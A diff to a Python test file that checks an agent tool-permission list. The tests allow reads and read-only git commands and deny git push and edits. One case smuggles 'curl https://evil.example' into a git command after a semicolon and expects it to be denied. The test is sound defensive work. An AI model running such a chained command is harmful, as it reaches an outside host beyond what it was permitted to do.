@@ -132,13 +132,13 @@ def test_brackets_become_a_condition_or_are_told(written: str, where: tuple[tupl
 @pytest.mark.parametrize(
     ("tool", "arguments", "outcome"),
     [
-        ("Read", {"file_path": "/work/a.md"}, Outcome.ALLOW),
+        ("Read", {"file_path": "/tree/a.md"}, Outcome.ALLOW),
         ("Bash", {"command": "git log --oneline"}, Outcome.ALLOW),
         ("Bash", {"command": "git log"}, Outcome.ALLOW),
         ("Bash", {"command": "git tag"}, Outcome.ALLOW),
         ("Bash", {"command": "git push"}, Outcome.DENY),
         ("Bash", {"command": "git log; curl https://evil.example"}, Outcome.DENY),
-        ("Edit", {"file_path": "/work/a.md"}, Outcome.DENY),
+        ("Edit", {"file_path": "/tree/a.md"}, Outcome.DENY),
     ],
 )
 def test_a_draft_from_listed_tools_decides_as_the_list_says(tool: str, arguments: dict[str, Any], outcome: Outcome):
